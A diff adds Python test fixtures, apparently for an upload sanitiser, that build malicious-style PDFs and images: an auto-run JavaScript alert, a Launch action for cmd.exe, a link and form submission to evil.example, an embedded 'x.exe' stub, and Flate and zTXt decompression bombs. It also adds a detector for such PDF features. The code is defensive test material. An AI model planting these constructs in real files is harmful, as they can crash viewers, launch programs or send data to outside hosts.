@@ -40,3 +40,131 @@ def bomb_png(width=30_000, height=30_000):
         chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
     )
     return b"\x89PNG\r\n\x1a\n" + parts
+
+
+def bill_pdf(pages):
+    """A PDF with a text layer: each entry is a page, its lines below each other."""
+    stream = io.BytesIO()
+    with pikepdf.new() as pdf:
+        font = pikepdf.Dictionary(
+            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
+        )
+        for text in pages:
+            page = pdf.add_blank_page()
+            page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
+            lines = " ".join(
+                "({}) Tj T*".format(line.replace("\\", "").replace("(", r"\(").replace(")", r"\)"))
+                for line in text.splitlines()
+            )
+            shown = f"BT /F1 12 Tf 16 TL 50 740 Td {lines} ET"
+            page.Contents = pdf.make_stream(shown.encode("latin-1"))
+        pdf.save(stream)
+    return stream.getvalue()
+
+
+def pdf_of_size(width, height):
+    stream = io.BytesIO()
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page(page_size=(width, height))
+        pdf.save(stream)
+    return stream.getvalue()
+
+
+def phone_photo(size=(40, 30)):
+    """A JPEG as a phone writes it: lying on its side, with its maker and a remark inside."""
+    stream, exif = io.BytesIO(), Image.Exif()
+    exif[0x0112], exif[0x010F] = 6, "Apple"
+    Image.new("RGB", size, "navy").save(stream, "JPEG", exif=exif, comment=b"secret remark")
+    return stream.getvalue()
+
+
+def tiff_bytes(pages):
+    stream = io.BytesIO()
+    first, *rest = [Image.new("RGB", (40, 30), "white") for _ in range(pages)]
+    first.save(stream, "TIFF", save_all=True, append_images=rest)
+    return stream.getvalue()
+
+
+def pdf_with_everything():
+    """A PDF that runs a script and a program, calls home, submits a form and carries files."""
+    stream = io.BytesIO()
+    name, words = pikepdf.Name, pikepdf.Dictionary
+    with pikepdf.new() as pdf:
+        page = pdf.add_blank_page()
+        script = words(S=name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+        pdf.Root.OpenAction = pdf.make_indirect(script)
+        pdf.Root.AA = words(WC=script)
+        page.AA = words(O=words(S=name.Launch, F=pikepdf.String("cmd.exe")))
+        box = pikepdf.Array([0, 0, 100, 100])
+        link = words(Type=name.Annot, Subtype=name.Link, Rect=box)
+        home, form = words(link), words(link)
+        home.A = words(S=name.URI, URI=pikepdf.String("https://evil.example/"))
+        form.A = words(S=name.SubmitForm, F=pikepdf.String("https://evil.example/"))
+        pdf.attachments["x.exe"] = b"MZ"
+        clip = words(Type=name.Annot, Subtype=name.FileAttachment, Rect=box)
+        clip.FS = pdf.attachments["x.exe"].obj
+        page.Annots = pdf.make_indirect(pikepdf.Array([home, form, clip]))
+        with pdf.open_metadata() as meta:
+            meta["dc:title"] = "secret title"
+        pdf.docinfo["/Author"] = "Dana Ortiz"
+        pdf.save(stream)
+    return stream.getvalue()
+
+
+DANGERS = ("/AA", "/OpenAction", "/EmbeddedFiles", "/Author")
+KINDS = ("/JavaScript", "/Launch", "/URI", "/SubmitForm", "/FileAttachment")
+
+
+def dangers_in(content):
+    """What a PDF holds that its viewer might act on, by name."""
+    found = set()
+
+    def look(thing, deep=0):
+        if isinstance(thing, pikepdf.Stream) and thing.get("/Type") == "/Metadata":
+            found.add("xmp")
+        if isinstance(thing, pikepdf.Dictionary | pikepdf.Stream):
+            found.update(name for name in DANGERS if name in thing)
+            kinds = (thing.get("/S"), thing.get("/Subtype"))
+            found.update(str(kind) for kind in kinds if kind in KINDS)
+        if deep > 4:
+            return
+        if isinstance(thing, pikepdf.Dictionary):
+            for value in thing.as_dict().values() if hasattr(thing, "as_dict") else ():
+                look(value, deep + 1)
+        elif isinstance(thing, pikepdf.Array):
+            for value in thing:
+                look(value, deep + 1)
+
+    with pikepdf.open(io.BytesIO(content)) as pdf:
+        for thing in pdf.objects:
+            look(thing)
+        look(pdf.trailer)
+    return found
+
+
+def flate_bomb(megabytes=400):
+    """A few kilobytes (a bomb in a bomb: a few hundred bytes) that unpack to this many."""
+    stream = io.BytesIO()
+    packer = zlib.compressobj(9)
+    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(megabytes)) + packer.flush()
+    with pikepdf.new() as pdf:
+        page = pdf.add_blank_page()
+        contents = pikepdf.Stream(pdf, b"")
+        contents.write(packed, filter=pikepdf.Name.FlateDecode)
+        page.Contents = contents
+        pdf.save(stream)
+    return stream.getvalue()
+
+
+def png_with(kind, data):
+    """A good PNG with one chunk more."""
+    good = image_bytes("PNG")
+    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    return good[:33] + chunk + good[33:]
+
+
+def ztxt_bomb(megabytes=200):
+    """A good PNG with a compressed remark that unpacks to this many."""
+    packer = zlib.compressobj(9)
+    packed = b"".join(packer.compress(b" " * 2**20) for _ in range(megabytes)) + packer.flush()
+    return png_with(b"zTXt", b"Comment\0\0" + packed)
